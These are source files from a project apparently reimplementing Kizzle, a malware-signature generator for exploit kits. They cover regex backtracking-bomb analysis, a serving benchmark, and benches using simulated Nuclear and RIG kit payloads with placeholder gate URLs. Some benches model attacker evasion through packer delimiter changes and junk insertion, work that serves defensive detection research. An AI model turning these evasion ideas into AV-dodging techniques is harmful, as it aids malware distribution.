  double log2_step_bound = 0.0;
};

ProgramFacts program_facts(const match::detail::Program& prog,
                           std::size_t reference_len);

}  // namespace detail

}  // namespace kizzle::analyze
