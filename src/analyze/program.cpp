// VM program analysis: the compiled-Instr-graph walk behind the
// backtracking-bomb, step-bound, unreachable-code, tier-downgrade and
// dead-signature findings (analyze.h, family 1).
//
// Everything here leans on one structural fact of the compiler
// (pattern.cpp): bounded repetitions unroll into nested optional Splits,
// and only *unbounded* repetitions (`*`, `+`, `{m,}`) emit a backward
// Jmp. Loops in the instruction graph therefore correspond exactly to
// unbounded repetitions, and nesting of loops to nesting of quantifiers.

#include <algorithm>
#include <cmath>
#include <string>
#include <vector>

#include "analyze/analyze.h"
#include "match/program.h"

namespace kizzle::analyze::detail {

namespace {

using match::detail::ByteSet;
using match::detail::Instr;
using match::detail::Op;
using match::detail::Program;

// Control-flow successors of `pc` (at most two). Match has none.
int successors(const Program& prog, std::uint32_t pc, std::uint32_t out[2]) {
  const Instr& in = prog.code[pc];
  switch (in.op) {
    case Op::Match:
      return 0;
    case Op::Jmp:
      out[0] = in.x;
      return 1;
    case Op::Split:
      out[0] = in.x;
      out[1] = in.y;
      return 2;
    default:
      out[0] = pc + 1;
      return 1;
  }
}

// The bytes a consuming instruction can accept; empty set for
// non-consuming ops.
ByteSet consume_set(const Program& prog, const Instr& in) {
  ByteSet s;
  switch (in.op) {
    case Op::Char:
      s.set(in.x & 0xFF);
      break;
    case Op::Class:
      s = prog.classes[in.x];
      break;
    case Op::Any:
      s.set();
      s.reset(static_cast<unsigned char>('\n'));
      break;
    default:
      break;
  }
  return s;
}

// The byte values normalization (text/normalize.h normalize_raw) strips
// from every scanned text: whitespace and quotes. A signature whose every
// accepting path must consume one of these can never fire.
ByteSet stripped_bytes() {
  ByteSet s;
  for (const char c : {' ', '\t', '\r', '\n', '\f', '\v', '"', '\''}) {
    s.set(static_cast<unsigned char>(c));
  }
  return s;
}

// Reachability over the instruction graph from `start`. `passable`, when
// non-null, vetoes traversal *through* an instruction (used for the
// normalized-bytes walk: a consuming instruction that can only accept
// stripped bytes blocks its path).
std::vector<std::uint8_t> reach_forward(
    const Program& prog, std::uint32_t start,
    const std::vector<std::uint8_t>* passable = nullptr) {
  std::vector<std::uint8_t> seen(prog.code.size(), 0);
  std::vector<std::uint32_t> stack{start};
  seen[start] = 1;
  std::uint32_t out[2];
  while (!stack.empty()) {
    const std::uint32_t pc = stack.back();
    stack.pop_back();
    if (passable != nullptr && !(*passable)[pc]) continue;
    const int n = successors(prog, pc, out);
    for (int i = 0; i < n; ++i) {
      if (!seen[out[i]]) {
        seen[out[i]] = 1;
        stack.push_back(out[i]);
      }
    }
  }
  return seen;
}

struct Loop {
  std::uint32_t head = 0;  // back-edge target (loop entry)
  std::uint32_t tail = 0;  // back-edge source (the jump back)
  ByteSet consumes;        // bytes the body can consume
  int depth = 1;           // nesting depth (outermost = 1)
};

// Renders a byte set compactly for diagnostics: up to a few sample bytes.
std::string byte_set_preview(const ByteSet& s) {
  std::string out = "[";
  int shown = 0;
  for (int c = 0; c < 256 && shown < 4; ++c) {
    if (!s.test(static_cast<std::size_t>(c))) continue;
    if (c >= 0x21 && c <= 0x7E) {
      out += static_cast<char>(c);
    } else {
      const char hex[] = "0123456789abcdef";
      out += "\\x";
      out += hex[c >> 4];
      out += hex[c & 15];
    }
    ++shown;
  }
  if (static_cast<int>(s.count()) > shown) out += "…";
  out += "]";
  return out;
}

}  // namespace

ProgramFacts program_facts(const Program& prog, std::size_t reference_len) {
  ProgramFacts facts;
  const std::size_t n = prog.code.size();
  if (n == 0) return facts;

  // ---- Reachability from the entry point. ----
  const std::vector<std::uint8_t> reachable = reach_forward(prog, 0);
  for (std::size_t pc = 0; pc < n; ++pc) {
    if (!reachable[pc]) ++facts.unreachable;
  }

  // ---- Back edges (loops) via iterative colored DFS. ----
  // Colors: 0 unvisited, 1 on the current DFS path, 2 finished. An edge
  // into a color-1 node is a back edge; its target is the loop head.
  std::vector<std::uint8_t> color(n, 0);
  std::vector<std::pair<std::uint32_t, std::uint32_t>> back_edges;  // u -> v
  {
    // Explicit stack of (pc, next-successor-index) frames.
    std::vector<std::pair<std::uint32_t, int>> stack;
    stack.emplace_back(0, 0);
    color[0] = 1;
    std::uint32_t out[2];
    while (!stack.empty()) {
      auto& [pc, next] = stack.back();
      const int n_succ = successors(prog, pc, out);
      if (next >= n_succ) {
        color[pc] = 2;
        stack.pop_back();
        continue;
      }
      const std::uint32_t succ = out[next++];
      if (color[succ] == 0) {
        color[succ] = 1;
        stack.emplace_back(succ, 0);
      } else if (color[succ] == 1) {
        back_edges.emplace_back(pc, succ);
      }
    }
  }
  facts.loops = back_edges.size();

  // ---- Loop intervals, consume sets, nesting. ----
  // compile_rep emits every unbounded repetition as
  //   head: Split(body, exit); …body…; tail: Jmp head
  // so a back edge (tail → head) closes the contiguous pc interval
  // [head, tail], and quantifier nesting is interval containment. (A
  // reachability-based "natural loop" body would fuse all the loops of
  // one strongly-connected region — `(a+)+` — into a single set and
  // lose the nesting; intervals keep it, and containment is a strict
  // partial order, so depth is just the ancestor count.)
  std::vector<Loop> loops;
  for (const auto& [u, v] : back_edges) {
    Loop loop;
    loop.head = std::min(u, v);
    loop.tail = std::max(u, v);
    for (std::uint32_t pc = loop.head; pc <= loop.tail; ++pc) {
      loop.consumes |= consume_set(prog, prog.code[pc]);
    }
    loops.push_back(loop);
  }
  const std::size_t L = loops.size();
  // contains(b, a): loop b's interval strictly contains loop a's.
  const auto contains = [&loops](std::size_t b, std::size_t a) {
    return loops[b].head <= loops[a].head && loops[a].tail <= loops[b].tail &&
           (loops[b].head != loops[a].head || loops[b].tail != loops[a].tail);
  };
  for (std::size_t a = 0; a < L; ++a) {
    for (std::size_t b = 0; b < L; ++b) {
      if (a != b && contains(b, a)) ++loops[a].depth;
    }
    facts.max_loop_depth = std::max(facts.max_loop_depth, loops[a].depth);
  }

  // ---- Catastrophic-backtracking structure. ----
  // A nested pair (inner A inside outer B) is catastrophic when the
  // outer loop can carry the scan from A's exit back around to A's
  // entry while consuming only bytes A itself accepts: one run of such
  // bytes then splits between the two quantifiers in exponentially many
  // ways. Concretely, with every consuming instruction outside A's byte
  // set vetoed, B's back-edge source must stay reachable from A's head
  // AND A's head from B's back-edge target. `(a+)+`, `(a+|b+)+` and
  // `((a+))*` pass both legs; `(a+b+)+` — merely quadratic — is blocked
  // at the mandatory `b` and is not flagged.
  for (std::size_t a = 0; a < L && !facts.ambiguous_nesting; ++a) {
    if (loops[a].consumes.none()) continue;
    std::vector<std::uint8_t> passable(n, 1);
    for (std::size_t pc = 0; pc < n; ++pc) {
      const ByteSet s = consume_set(prog, prog.code[pc]);
      if (s.any() && (s & loops[a].consumes).none()) passable[pc] = 0;
    }
    const std::vector<std::uint8_t> from_inner =
        reach_forward(prog, loops[a].head, &passable);
    for (std::size_t b = 0; b < L; ++b) {
      if (b == a || !contains(b, a)) continue;
      if (!from_inner[loops[b].tail]) continue;
      const std::vector<std::uint8_t> around =
          reach_forward(prog, loops[b].head, &passable);
      if (!around[loops[a].head]) continue;
      facts.ambiguous_nesting = true;
      facts.ambiguous_detail =
          "repetition at pc " + std::to_string(loops[a].head) +
          " nested in repetition at pc " + std::to_string(loops[b].head) +
          ", both consuming " + byte_set_preview(loops[a].consumes);
      break;
    }
  }

  // ---- Worst-case step bound for one anchored attempt. ----
  // Loop-free programs walk a DAG: the backtracker visits each
  // alternation path at most once, bounded by |code| per attempt. Every
  // unbounded-loop nesting level multiplies the attempt by up to
  // reference_len iteration counts; ambiguous nesting is exponential in
  // the text length outright.
  const double len = static_cast<double>(std::max<std::size_t>(reference_len, 2));
  if (facts.ambiguous_nesting) {
    facts.log2_step_bound = std::min(len, 64.0);
  } else {
    facts.log2_step_bound =
        std::log2(static_cast<double>(n)) +
        static_cast<double>(facts.max_loop_depth) * std::log2(len);
  }

  // ---- Cheaper-tier shape. ----
  // An alternation of literals compiles to Char/Split/Jmp/Save/Match
  // only, with no loop: it could confirm by per-branch find/memcmp
  // instead of the VM (ROADMAP: widen kLiteralDominated eligibility).
  if (prog.tier == match::ConfirmTier::kRegex && facts.loops == 0) {
    bool only_literal_ops = true;
    bool has_split = false;
    for (const Instr& in : prog.code) {
      switch (in.op) {
        case Op::Split:
          has_split = true;
          break;
        case Op::Char:
        case Op::Jmp:
        case Op::Save:
        case Op::Match:
          break;
        default:
          only_literal_ops = false;
          break;
      }
      if (!only_literal_ops) break;
    }
    facts.literal_alternation = only_literal_ops && has_split;
  }

  // ---- Dead on normalized text. ----
  // Re-run reachability with consuming instructions vetoed when every
  // byte they accept is stripped by normalization: if no accept remains
  // reachable, the signature cannot fire on any real scan input.
  {
    const ByteSet stripped = stripped_bytes();
    std::vector<std::uint8_t> passable(n, 1);
    for (std::size_t pc = 0; pc < n; ++pc) {
      const ByteSet s = consume_set(prog, prog.code[pc]);
      if (s.any() && (s & ~stripped).none()) passable[pc] = 0;
    }
    const std::vector<std::uint8_t> alive = reach_forward(prog, 0, &passable);
    bool accepts = false;
    for (std::size_t pc = 0; pc < n && !accepts; ++pc) {
      if (alive[pc] && prog.code[pc].op == Op::Match && passable[pc]) {
        accepts = true;
      }
    }
    facts.dead_normalized = !accepts;
  }

  return facts;
}

}  // namespace kizzle::analyze::detail
