// Serve-path benchmark and soak harness: drives serve::ScanServer with the
// deterministic load generator (serve/loadgen.h) and emits
// google-benchmark-compatible JSON (BENCH_serve.json) so
// bench/run_bench.sh --compare gates serving latency alongside the scan
// series.
//
// Three phases, each a JSON row (real_time = p99 submit→completion latency
// in nanoseconds, items_per_second = completed requests per second, p50/
// p999 as extra fields):
//
//   serve_mixed/clients:N   mixed one-shot/chunked-stream traffic from N
//                           closed-loop clients (two concurrency levels,
//                           so the tail's growth under contention is part
//                           of the recorded series);
//   serve_soak_hotswap      a longer mixed run with a lint-gated artifact
//                           hot swap fired mid-traffic plus one deploy the
//                           lint gate must refuse — the run FAILS (exit 1)
//                           if any accepted request fails, the epoch does
//                           not advance, or the bomb artifact is accepted;
//   serve_overload_shed     deliberate overload (tiny queue, one worker,
//                           many clients): asserts the excess is shed as
//                           typed kOverloaded rejections, never errors or
//                           lost completions.
//
// Usage: bench_serve [--quick] [out.json]   (--quick shortens every phase
// for CI smoke; the checked-in baseline comes from a full run)
#include <chrono>
#include <cstdio>
#include <cstring>
#include <sstream>
#include <string>
#include <vector>

#include "serve/loadgen.h"
#include "serve/server.h"

namespace {

using namespace kizzle;

struct Row {
  std::string name;
  double real_time_ns = 0.0;   // p99 latency
  double items_per_second = 0.0;
  double p50_ns = 0.0;
  double p999_ns = 0.0;
  double completed = 0.0;
  double shed = 0.0;
};

void write_json(const std::string& path, const std::vector<Row>& rows) {
  FILE* f = std::fopen(path.c_str(), "w");
  if (f == nullptr) {
    std::fprintf(stderr, "bench_serve: cannot open %s\n", path.c_str());
    std::exit(1);
  }
  std::fprintf(f, "{\n  \"context\": {\n"
                  "    \"executable\": \"bench_serve\",\n"
                  "    \"library_build_type\": \"release\"\n  },\n"
                  "  \"benchmarks\": [\n");
  for (std::size_t i = 0; i < rows.size(); ++i) {
    const Row& r = rows[i];
    std::fprintf(f,
                 "    {\n"
                 "      \"name\": \"%s\",\n"
                 "      \"run_name\": \"%s\",\n"
                 "      \"run_type\": \"iteration\",\n"
                 "      \"iterations\": 1,\n"
                 "      \"real_time\": %.1f,\n"
                 "      \"cpu_time\": %.1f,\n"
                 "      \"time_unit\": \"ns\",\n"
                 "      \"items_per_second\": %.1f,\n"
                 "      \"p50_ns\": %.1f,\n"
                 "      \"p999_ns\": %.1f,\n"
                 "      \"completed\": %.0f,\n"
                 "      \"shed\": %.0f\n"
                 "    }%s\n",
                 r.name.c_str(), r.name.c_str(), r.real_time_ns,
                 r.real_time_ns, r.items_per_second, r.p50_ns, r.p999_ns,
                 r.completed, r.shed, i + 1 < rows.size() ? "," : "");
  }
  std::fprintf(f, "  ]\n}\n");
  std::fclose(f);
}

Row report_row(const std::string& name, const serve::LoadReport& rep) {
  Row r;
  r.name = name;
  r.real_time_ns = static_cast<double>(rep.latency.percentile(0.99));
  r.items_per_second = rep.rps();
  r.p50_ns = static_cast<double>(rep.latency.percentile(0.50));
  r.p999_ns = static_cast<double>(rep.latency.percentile(0.999));
  r.completed = static_cast<double>(rep.completed);
  r.shed = static_cast<double>(rep.shed);
  return r;
}

int fail(const char* what) {
  std::fprintf(stderr, "bench_serve: FAILED: %s\n", what);
  return 1;
}

}  // namespace

int main(int argc, char** argv) {
  bool quick = false;
  std::string out_path = "BENCH_serve.json";
  for (int i = 1; i < argc; ++i) {
    if (std::strcmp(argv[i], "--quick") == 0) {
      quick = true;
    } else {
      out_path = argv[i];
    }
  }
  const std::chrono::milliseconds mixed_ms =
      std::chrono::milliseconds(quick ? 300 : 2000);
  const std::chrono::milliseconds soak_ms =
      std::chrono::milliseconds(quick ? 600 : 5000);

  std::fprintf(stderr, "[bench_serve] building fixture...\n");
  const serve::ServeFixture fx = serve::make_fixture();
  std::fprintf(stderr, "[bench_serve] %zu docs, %zu signatures\n",
               fx.docs.size(), fx.signatures.size());
  std::vector<Row> rows;

  // ----------------------- mixed load, two levels -----------------------
  for (const std::size_t clients : {std::size_t{2}, std::size_t{8}}) {
    serve::ServerConfig scfg;
    scfg.workers = 2;
    serve::ScanServer server(fx.database, scfg);
    serve::LoadConfig lcfg;
    lcfg.clients = clients;
    lcfg.duration = mixed_ms;
    lcfg.stream_fraction = 0.3;
    lcfg.seed = 7 + clients;
    const serve::LoadReport rep = serve::run_load(server, fx.docs, lcfg);
    server.stop();
    if (rep.failed != 0) return fail("mixed load saw failed requests");
    if (rep.completed == 0) return fail("mixed load completed nothing");
    if (rep.one_shot == 0 || rep.stream == 0) {
      return fail("mixed load was not mixed (missing a traffic shape)");
    }
    rows.push_back(report_row(
        "serve_mixed/clients:" + std::to_string(clients), rep));
    std::fprintf(stderr,
                 "[bench_serve] mixed clients=%zu rps=%.0f p50=%.1fus "
                 "p99=%.1fus p999=%.1fus\n",
                 clients, rep.rps(),
                 static_cast<double>(rep.latency.percentile(0.50)) / 1e3,
                 static_cast<double>(rep.latency.percentile(0.99)) / 1e3,
                 static_cast<double>(rep.latency.percentile(0.999)) / 1e3);
  }

  // -------------------------- soak + hot swap ---------------------------
  {
    serve::ServerConfig scfg;
    scfg.workers = 2;
    serve::ScanServer server(fx.database, scfg);
    const std::uint64_t epoch0 = server.epoch();
    bool swap_ok = false;
    bool bomb_rejected = false;
    serve::LoadConfig lcfg;
    lcfg.clients = 4;
    lcfg.duration = soak_ms;
    lcfg.stream_fraction = 0.3;
    lcfg.seed = 99;
    lcfg.mid_run = [&] {
      // Mid-traffic release: the canary artifact must flip the epoch, the
      // backtracking-bomb artifact must be refused by the lint gate.
      std::istringstream good(fx.swap_artifact);
      swap_ok = server.deploy_artifact(good).accepted;
      std::istringstream bomb(fx.bomb_artifact);
      bomb_rejected = !server.deploy_artifact(bomb).accepted;
    };
    const serve::LoadReport rep = serve::run_load(server, fx.docs, lcfg);
    const serve::ServerStats stats = server.stats();
    server.stop();
    if (rep.failed != 0) return fail("soak saw failed requests across swap");
    if (rep.completed == 0) return fail("soak completed nothing");
    if (!swap_ok || server.epoch() != epoch0 + 1) {
      return fail("hot swap did not advance the epoch");
    }
    if (!bomb_rejected || stats.swaps_rejected == 0) {
      return fail("lint gate accepted the backtracking bomb");
    }
    rows.push_back(report_row("serve_soak_hotswap", rep));
    std::fprintf(stderr,
                 "[bench_serve] soak rps=%.0f completed=%llu swaps=%llu "
                 "rejected=%llu failed=%llu\n",
                 rep.rps(), static_cast<unsigned long long>(rep.completed),
                 static_cast<unsigned long long>(stats.epoch_swaps),
                 static_cast<unsigned long long>(stats.swaps_rejected),
                 static_cast<unsigned long long>(rep.failed));
  }

  // -------------------------- overload shedding -------------------------
  {
    serve::ServerConfig scfg;
    scfg.workers = 1;
    scfg.queue_capacity = 2;
    scfg.batch_max = 1;
    serve::ScanServer server(fx.database, scfg);
    serve::LoadConfig lcfg;
    lcfg.clients = 8;
    lcfg.duration = std::chrono::milliseconds(quick ? 200 : 1000);
    lcfg.stream_fraction = 0.0;  // one-shots hit the queue bound directly
    lcfg.seed = 13;
    const serve::LoadReport rep = serve::run_load(server, fx.docs, lcfg);
    server.stop();
    if (rep.failed != 0) return fail("overload produced failures, not sheds");
    if (rep.shed == 0) {
      return fail("overload did not shed (expected typed kOverloaded)");
    }
    rows.push_back(report_row("serve_overload_shed", rep));
    std::fprintf(stderr,
                 "[bench_serve] overload shed=%llu completed=%llu\n",
                 static_cast<unsigned long long>(rep.shed),
                 static_cast<unsigned long long>(rep.completed));
  }

  write_json(out_path, rows);
  std::fprintf(stderr, "[bench_serve] wrote %s\n", out_path.c_str());
  return 0;
}
