// Fig 15: "A false positive for Kizzle extracted from PluginDetect; it
// shares a very high (79%) overlap with Nuclear exploit kit." This bench
// reproduces the anatomy: the benign PluginDetect library embeds the same
// plugin-detection core that Nuclear's payload carries, so its winnow
// containment against the Nuclear corpus clears the labeling threshold.
#include <cstdio>

#include "core/corpus.h"
#include "kitgen/benign.h"
#include "kitgen/kit.h"
#include "kitgen/payload.h"
#include "kitgen/timeline.h"
#include "text/normalize.h"
#include "winnow/winnow.h"

int main() {
  using namespace kizzle;

  std::printf("Fig 15: anatomy of the PluginDetect false positive\n\n");

  kitgen::PayloadSpec spec;
  spec.family = kitgen::KitFamily::Nuclear;
  spec.cves = kitgen::kit_info(kitgen::KitFamily::Nuclear).cves;
  spec.av_check = true;
  spec.urls = {"http://ad7k2.gate-a.biz/serv"};
  const std::string nuclear = text::normalize_js(payload_text(spec));

  kitgen::BenignCorpus benign(20140801);
  const std::string plugindetect =
      text::normalize_js(benign.plugindetect_script(kitgen::kAug1));

  const winnow::Params params;
  const auto nuclear_fps = winnow::FingerprintSet::of_text(nuclear, params);
  const auto benign_fps =
      winnow::FingerprintSet::of_text(plugindetect, params);

  const double overlap = benign_fps.containment(nuclear_fps);
  std::printf("normalized sizes: Nuclear payload %zu chars, benign "
              "PluginDetect %zu chars\n",
              nuclear.size(), plugindetect.size());
  std::printf("winnow containment(PluginDetect -> Nuclear): %.1f%%  "
              "(paper: 79%%)\n",
              overlap * 100.0);
  std::printf("winnow jaccard: %.1f%%\n\n",
              benign_fps.jaccard(nuclear_fps) * 100.0);

  core::LabeledCorpus corpus;
  corpus.add_family("Nuclear", 0.68);
  corpus.add_sample("Nuclear", nuclear);
  const core::LabelScore score = corpus.label(benign_fps);
  std::printf("labeling verdict at the Nuclear threshold (0.68): %s\n",
              score.family.empty() ? "benign (no false positive)"
                                   : "labeled Nuclear -> FALSE POSITIVE");

  std::printf("\nshared fragment (the PluginDetect utility core the kit "
              "copied):\n");
  const std::string core_text =
      text::normalize_js(kitgen::plugin_detector_core_text());
  std::printf("  %s...\n", core_text.substr(0, 360).c_str());
  std::printf(
      "\nThe paper's Fig 15 shows exactly this code (isPlainObject, "
      "isDefined, isArray,\nisString, isNum ...) as the source of the "
      "overlap.\n");
  return 0;
}
