// Hidden server-side signatures (§V extension): the attacker's trial-and-
// error loop against the client oracle (Fig 1) vs the server-side inner-
// layer match the adversary cannot observe.
#include <cstdio>

#include "av/av_engine.h"
#include "core/hidden.h"
#include "kitgen/kit.h"
#include "kitgen/packers.h"
#include "kitgen/payload.h"
#include "support/rng.h"
#include "support/table.h"
#include "text/normalize.h"

int main() {
  using namespace kizzle;

  std::printf(
      "Hidden server-side signatures: client oracle evasion vs inner-layer "
      "match\n\n");

  auto rig_payload = [](const std::string& url) {
    kitgen::PayloadSpec spec;
    spec.family = kitgen::KitFamily::Rig;
    spec.cves = kitgen::kit_info(kitgen::KitFamily::Rig).cves;
    spec.av_check = true;
    spec.urls = {url};
    return payload_text(spec);
  };

  // Client side: the deployed (visible) literal signature.
  av::ManualAvEngine client;
  client.schedule(av::AvRelease{
      0, kitgen::KitFamily::Rig, "RIG.sig1",
      rig_analyst_feature(kitgen::RigPackerState{.delim = "y6"})});

  // Server side: a hidden signature learned from two unpacked payloads.
  core::HiddenSignatureEngine hidden;
  const std::vector<std::string> corpus = {
      rig_payload("http://a.gate-1.biz/x"),
      rig_payload("http://b.gate-2.ru/y"),
  };
  if (!hidden.learn("RIG", corpus)) {
    std::printf("hidden signature compilation failed\n");
    return 1;
  }
  std::printf("hidden signature: %s (%zu chars, never deployed)\n\n",
              hidden.signatures()[0].name.c_str(),
              hidden.signatures()[0].pattern.size());

  // The attacker iterates delimiters until the client signature passes,
  // then ships. Measure both engines on the shipped variants.
  Rng rng(20140813);
  Table table({"attacker variant", "client AV", "hidden (server)"});
  const char* delims[] = {"y6", "q3", "Zx", "m8", "w2k", "p"};
  for (const char* d : delims) {
    kitgen::RigPackerState st;
    st.delim = d;
    const std::string packed =
        pack_rig(rig_payload("http://ev.gate-9.pw/k"), st, rng);
    const bool client_hit =
        client.detects(0, text::normalize_raw(packed));
    const auto hidden_hit = hidden.scan_packed(packed);
    table.add_row({std::string("delim \"") + d + "\"",
                   client_hit ? "DETECTED" : "evaded",
                   hidden_hit ? "DETECTED" : "evaded"});
  }
  std::printf("%s\n", table.to_string().c_str());
  std::printf(
      "Only the original delimiter trips the client signature; every "
      "variant is caught\nserver-side, because the inner core — which the "
      "attacker would actually have to\nrewrite — is unchanged. \"Even "
      "though the new variant has no resemblance to the\nprevious versions "
      "on the outside, they will most likely overlap in the inner-most\n"
      "code.\" (SV)\n");
  return 0;
}
