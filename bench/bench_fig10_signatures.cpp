// Fig 10: "Examples of Kizzle-generated signatures" — runs the full
// pipeline on one simulated day and prints the signatures it compiles for
// the Nuclear and Sweet Orange clusters (the two kits Fig 10 shows).
#include <cstdio>

#include "core/pipeline.h"
#include "kitgen/stream.h"

int main() {
  using namespace kizzle;

  std::printf("Fig 10: examples of Kizzle-generated signatures\n\n");
  kitgen::StreamConfig scfg;
  kitgen::StreamSimulator sim(scfg);
  core::PipelineConfig pcfg;
  core::KizzlePipeline pipeline(pcfg, 20140801);
  for (const auto& [family, payload] : sim.seed_corpus()) {
    pipeline.seed_family(std::string(kitgen::family_name(family)), 0.60,
                         payload);
  }
  const auto batch = sim.generate_day(kitgen::kAug1);
  std::vector<std::string> htmls;
  for (const auto& s : batch.samples) htmls.push_back(s.html);
  pipeline.process_day(kitgen::kAug1, htmls);

  for (const char* want : {"Nuclear", "Sweet Orange"}) {
    for (const core::DeployedSignature& sig : pipeline.signatures()) {
      if (sig.family != want) continue;
      std::printf("--- (%s) %s — %zu tokens, %zu chars ---\n", want,
                  sig.name.c_str(), sig.token_length, sig.pattern.size());
      // Wrap for readability, as the paper's listing does.
      const std::string& p = sig.pattern;
      for (std::size_t pos = 0; pos < p.size(); pos += 72) {
        std::printf("%s\n", p.substr(pos, 72).c_str());
      }
      std::printf("\n");
      break;
    }
  }
  std::printf(
      "Note the paper's observations hold: the signatures are long, very "
      "specific,\nand capture templatized variable names as named groups "
      "with backreferences\n(\\k<varN>), e.g. the packer's getter function "
      "referenced at every use site.\n");
  return 0;
}
