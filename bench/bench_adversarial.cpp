// The §V adversary, end to end.
//
// "An attacker aware of the signature creation algorithm can try to modify
//  his packer such that our algorithm fails. An example for this is the
//  insertion of a random number of superfluous JavaScript instructions
//  between relevant operations..."
//
// This bench sweeps the junk density of the adversarial RIG packer and
// compares the paper's single-window compiler against the multi-fragment
// extension the paper proposes: signature size, whether compilation
// succeeds, detection of fresh adversarial samples, and false positives on
// a benign corpus (short generic windows are the failure mode: they match
// everyday JavaScript).
#include <cstdio>

#include "kitgen/benign.h"
#include "kitgen/kit.h"
#include "kitgen/packers.h"
#include "kitgen/payload.h"
#include "kitgen/timeline.h"
#include "match/pattern.h"
#include "sig/compiler.h"
#include "sig/multi_fragment.h"
#include "support/rng.h"
#include "support/table.h"
#include "text/lexer.h"
#include "text/normalize.h"

int main() {
  using namespace kizzle;

  std::printf(
      "SV adversary: junk insertion vs single-window and multi-fragment "
      "signatures\n\n");

  kitgen::PayloadSpec spec;
  spec.family = kitgen::KitFamily::Rig;
  spec.cves = kitgen::kit_info(kitgen::KitFamily::Rig).cves;
  spec.av_check = true;
  spec.urls = {"http://gate1.edge-x.biz/serv"};
  const std::string payload = payload_text(spec);

  // A benign corpus for false-positive measurement (includes the everyday
  // for-loop idiom that degenerate signatures collide with).
  kitgen::BenignCorpus benign(7, 400);
  std::vector<std::string> benign_texts;
  for (std::size_t f = 0; f < 400; ++f) {
    benign_texts.push_back(
        text::normalize_js(benign.family_script(f, kitgen::kAug1)));
  }

  Table table({"junk density", "single: tokens", "single: benign FPs",
               "multi: fragments/tokens", "multi: fresh detect",
               "multi: benign FPs"});

  for (const double density : {0.0, 0.5, 0.8, 0.95}) {
    Rng rng(1000 + static_cast<std::uint64_t>(density * 100));
    auto make = [&](std::size_t n) {
      std::vector<std::vector<text::Token>> out;
      for (std::size_t i = 0; i < n; ++i) {
        const std::string packed =
            density == 0.0
                ? pack_rig(payload, kitgen::RigPackerState{}, rng)
                : kitgen::pack_rig_adversarial(
                      payload, kitgen::RigPackerState{}, density, rng);
        out.push_back(text::lex(packed));
      }
      return out;
    };
    const auto cluster = make(12);
    const auto fresh = make(8);

    // --- single-window compiler (the paper's §III.C algorithm) ---
    sig::CompilerParams sparams;
    sparams.length_slack = 0.25;
    const sig::Signature single = sig::compile_signature(cluster, sparams);
    std::string single_tokens = "fails";
    std::size_t single_fp = 0;
    if (single.ok) {
      single_tokens = std::to_string(single.token_length);
      const auto p = match::Pattern::compile(single.pattern);
      for (const auto& b : benign_texts) {
        if (p.found_in(b)) ++single_fp;
      }
    }

    // --- multi-fragment extension ---
    sig::MultiFragmentParams mparams;
    mparams.base.length_slack = 0.25;
    const sig::FragmentSignature multi =
        sig::compile_multi_fragment(cluster, mparams);
    std::string multi_desc = "fails";
    std::string multi_detect = "-";
    std::size_t multi_fp = 0;
    if (multi.ok) {
      multi_desc = std::to_string(multi.fragments.size()) + "/" +
                   std::to_string(multi.total_tokens());
      const sig::FragmentMatcher matcher(multi, 0.7);
      std::size_t hit = 0;
      for (const auto& toks : fresh) {
        if (matcher.matches(sig::normalized_token_text(toks))) ++hit;
      }
      multi_detect = std::to_string(hit) + "/" + std::to_string(fresh.size());
      for (const auto& b : benign_texts) {
        if (matcher.matches(b)) ++multi_fp;
      }
    }

    char density_buf[16];
    std::snprintf(density_buf, sizeof(density_buf), "%.2f", density);
    table.add_row({density_buf, single_tokens, std::to_string(single_fp),
                   multi_desc, multi_detect, std::to_string(multi_fp)});
  }
  std::printf("%s\n", table.to_string().c_str());
  std::printf(
      "Expected: at density 0 the single-window signature covers the 200-"
      "token cap and\nfragments are unnecessary; as junk density rises the "
      "longest common window\ncollapses (or disappears), while the fragment "
      "set keeps detecting fresh\nadversarial samples with zero benign "
      "false positives.\n");
  return 0;
}
