// Fig 5: "Evolution of the Nuclear exploit kit over a three-month period
// in 2014" — packer changes above the axis, payload changes below.
#include <cstdio>

#include "kitgen/timeline.h"
#include "support/table.h"

int main() {
  using namespace kizzle;
  using kitgen::EventKind;

  std::printf(
      "Fig 5: Evolution of the Nuclear exploit kit, June 1 - August 31, "
      "2014\n\n");
  Table table({"date", "layer", "kind", "change"});
  std::size_t packer = 0;
  std::size_t payload = 0;
  for (const kitgen::KitEvent& e : kitgen::nuclear_fig5_timeline()) {
    const bool is_packer = e.kind == EventKind::PackerChange ||
                           e.kind == EventKind::SemanticChange;
    if (is_packer) {
      ++packer;
    } else {
      ++payload;
    }
    table.add_row({kitgen::date_label(e.day),
                   is_packer ? "packer" : "payload",
                   std::string(kitgen::event_kind_name(e.kind)), e.label});
  }
  std::printf("%s\n", table.to_string().c_str());
  std::printf(
      "packer changes: %zu (13 superficial + 1 semantic)   payload "
      "changes: %zu\n",
      packer, payload);
  std::printf(
      "\"The lion's share of changes are superficial changes to the "
      "packer.\"\n");
  return 0;
}
