// Fig 11: "Similarity over time for a month-long time window" — for each
// kit, the winnow overlap between each day's unpacked cluster centroids
// and the centroids of all previous days (maximum overlap reported).
#include <cstdio>

#include "bench_common.h"
#include "support/table.h"

int main() {
  using namespace kizzle;
  const auto result =
      bench::run_month("Fig 11: unpacked-centroid similarity over time");

  Table table({"date", "(a) Nuclear", "(b) Sweet Orange", "(c) Angler",
               "(d) RIG"});
  for (const eval::DayMetrics& m : result.days) {
    std::vector<std::string> row = {kitgen::date_label(m.day)};
    for (std::size_t order = 0; order < kitgen::kNumFamilies; ++order) {
      const double sim = m.family[order].similarity;
      row.push_back(sim < 0 ? "-" : bench::pct(sim, 1));
    }
    table.add_row(row);
  }
  std::printf("%s\n", table.to_string().c_str());
  std::printf(
      "Expected shapes (paper): Nuclear 96-100%% (near-constant core), "
      "Angler ~99-100%%,\nSweet Orange 50-95%% (moderate inner churn), RIG "
      "noisy (short body, daily URL churn\n— \"these URLs alone represent a "
      "significant enough part of the code to create a\n50%% churn\").\n");
  return 0;
}
