#!/usr/bin/env bash
# Runs the clustering benches and emits BENCH_cluster.json in
# google-benchmark's JSON format (per-bench real/cpu time plus the
# DbscanStats counters: dp, pruned_length/histogram/sketch, graph_seconds).
#
# Usage: bench/run_bench.sh [build-dir] [out.json]
#
# The headline comparison is BM_ClusterPairwise vs BM_ClusterPairwiseScalar
# items_per_second (unordered pairs resolved per second): the neighbor-graph
# + bit-parallel stack vs the seed's region-query sweep.
set -euo pipefail

BUILD="${1:-build}"
OUT="${2:-BENCH_cluster.json}"

if [[ ! -x "$BUILD/bench_micro" ]]; then
  echo "error: $BUILD/bench_micro not found or not executable." >&2
  echo "Configure with google-benchmark installed: cmake -B $BUILD -S . && cmake --build $BUILD -j" >&2
  exit 1
fi

